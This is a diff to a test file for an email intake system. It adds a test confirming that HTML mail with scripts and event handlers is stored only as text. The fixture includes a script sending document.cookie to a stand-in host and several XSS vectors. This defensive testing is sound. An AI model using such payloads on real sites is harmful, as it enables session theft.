@@ -1,4 +1,4 @@
-/** Hostile and broken input through the real intake (issue 5, the part done so far). */
+/** Hostile and broken input through the real intake. */
 import crypto from 'node:crypto';
 import fs from 'node:fs';
 import path from 'node:path';
@@ -71,5 +71,20 @@ test('1 000 attachments are all recorded', async () => {
   const raw = Buffer.from(`${head()}Subject: many files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts}--b--\r\n`);
   expect((await h.intake.process({ raw, mailbox: mb, receivedAt: h.clock.now() })).outcome).toBe('created');
   expect(h.all('SELECT id FROM attachments')).toHaveLength(1000);
+  h.close();
+});
+
+test('HTML with scripts, styles and event handlers: never rendered, only its text is kept', async () => {
+  const html = `<html><head><style>p { color: red }</style><script>document.location='https://evil.test/?c='+document.cookie</script></head>
+<body onload="steal()"><p>Сервер&nbsp;недоступен</p><img src="https://evil.test/pixel.gif" onerror="alert(1)"><iframe src="https://evil.test"></iframe><a href="javascript:alert(2)">ссылка</a></body></html>`;
+  const raw = Buffer.from(`${head()}Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`);
+  const h = intakeHarness();
+  await h.intake.process({ raw, mailbox: mb, receivedAt: h.clock.now() });
+  const [m] = h.all<{ text: string }>("SELECT text FROM messages WHERE direction = 'in'");
+  expect(m.text.replace(/\s+/g, ' ')).toContain('Сервер недоступен');
+  expect(m.text).toContain('ссылка');
+  for (const bad of ['<script', 'document.cookie', 'color: red', 'onload', 'onerror', 'evil.test', 'javascript:', '[]']) expect(m.text).not.toContain(bad);
+  const [reply] = h.all<{ text: string }>('SELECT text FROM outbox');
+  expect(reply.text).not.toMatch(/<script|evil\.test/);
   h.close();
 });
